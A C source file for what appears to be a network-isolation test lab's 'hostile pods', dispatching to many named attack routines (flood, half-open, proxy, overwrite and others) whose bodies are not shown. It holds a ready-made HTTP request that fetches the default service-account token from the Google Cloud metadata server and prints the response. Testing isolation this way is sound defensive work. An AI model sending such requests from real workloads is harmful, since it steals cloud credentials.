#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

struct target parse_target(const char *address, const char *port)
{
	struct target target = { .length = 0 };

	if (inet_pton(AF_INET, address, &target.v4.sin_addr) == 1) {
		target.v4.sin_family = AF_INET;
		target.v4.sin_port = htons((uint16_t)atoi(port));
		target.length = sizeof(target.v4);
	} else if (inet_pton(AF_INET6, address, &target.v6.sin6_addr) == 1) {
		target.v6.sin6_family = AF_INET6;
		target.v6.sin6_port = htons((uint16_t)atoi(port));
		target.length = sizeof(target.v6);
	} else {
		fprintf(stderr, "%s is not an IP address\n", address);
		exit(64);
	}
	return target;
}

int make_stream(int family, int protocol)
{
	struct timeval patience = { .tv_usec = PATIENCE_MS * 1000 };
	int fd = socket(family, SOCK_STREAM, protocol);

	if (fd < 0)
		broken("socket", errno);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
	return fd;
}

int wait_readable(int fd, int timeout_ms)
{
	struct pollfd polled = { .fd = fd, .events = POLLIN };

	return poll(&polled, 1, timeout_ms) == 1;
}

void fail(const char *what, int number)
{
	printf("%s: %s\n", what, strerrorname_np(number));
	exit(0);
}

void broken(const char *what, int number)
{
	fprintf(stderr, "%s: %s\n", what, strerrorname_np(number));
	exit(70);
}

long now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

void allow_many_files(void)
{
	struct rlimit limit = { .rlim_cur = 65536, .rlim_max = 65536 };

	if (setrlimit(RLIMIT_NOFILE, &limit) < 0) {
		getrlimit(RLIMIT_NOFILE, &limit);
		limit.rlim_cur = limit.rlim_max;
		setrlimit(RLIMIT_NOFILE, &limit);
	}
}

const char token_request[] =
	"GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\n"
	"Host: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n";

void ask(int fd)
{
	char answer[8192];
	size_t length = 0;
	const char *body;

	if (send(fd, token_request, strlen(token_request), MSG_NOSIGNAL) < 0)
		fail("connected, sending failed", errno);
	while (length < sizeof(answer) - 1) {
		ssize_t got;

		if (!wait_readable(fd, length ? 200 : 4 * PATIENCE_MS))
			break;
		got = recv(fd, answer + length, sizeof(answer) - 1 - length, 0);
		if (got < 0)
			fail("connected, receiving failed", errno);
		if (!got)
			break;
		length += (size_t)got;
		answer[length] = 0;
		if (strstr(answer, "\r\n\r\n") && answer[length - 1] == '}')
			break;
	}
	if (!length) {
		printf("connected, no answer\n");
		exit(0);
	}
	body = strstr(answer, "\r\n\r\n");
	printf("answered %.3s %s\n", answer + 9, body ? body + 4 : "");
}

static const struct {
	const char *name;
	/* The numbers of arguments after the name. */
	int least, most;
	void (*run)(char **argument);
} attacks[] = {
	{ "connect", 3, 5, attack_connect },
	{ "keep-alive", 2, 2, attack_keep_alive },
	{ "loop", 2, 2, attack_loop },
	{ "repair", 4, 4, attack_repair },
	{ "exchange", 3, 1000, attack_exchange },
	{ "udp", 3, 3, attack_udp },
	{ "raw", 4, 4, attack_raw },
	{ "frame", 5, 6, attack_frame },
	{ "route", 4, 4, attack_route },
	{ "handshake", 6, 6, attack_handshake },
	{ "plant", 6, 6, attack_plant },
	{ "pass", 3, 3, attack_pass },
	{ "take", 3, 3, attack_take },
	{ "lend", 1, 1, attack_lend },
	{ "borrow", 3, 3, attack_borrow },
	{ "move", 3, 3, attack_move },
	{ "flood", 4, 4, attack_flood },
	{ "half-open", 3, 3, attack_half_open },
	{ "nest", 4, 4, attack_nest },
	{ "churn", 2, 2, attack_churn },
	{ "load", 5, 5, attack_load },
	{ "kept", 3, 3, attack_kept },
	{ "volley", 3, 3, attack_volley },
	{ "queue", 3, 3, attack_queue },
	{ "proxy", 1, 3, attack_proxy },
	{ "bind", 2, 2, attack_bind },
	{ "stray", 4, 4, attack_stray },
	{ "overwrite", 4, 4, attack_overwrite },
};

int main(int count, char **argument)
{
	const char *name = count > 1 ? argument[1] : "";

	sigset_t none;

	/* The parent process may block signals, and its children inherit that. */
	sigemptyset(&none);
	sigprocmask(SIG_SETMASK, &none, NULL);
	/* The parent process may be gone by then. */
	alarm(60);
	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGPIPE, SIG_IGN);
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (strcmp(name, attacks[i].name) || count - 2 < attacks[i].least ||
		    count - 2 > attacks[i].most)
			continue;
		attacks[i].run(argument + 2);
		return 0;
	}
	fprintf(stderr, "lab-attack: what the lab's hostile pods run; see attack.h\n");
	return 64;
}
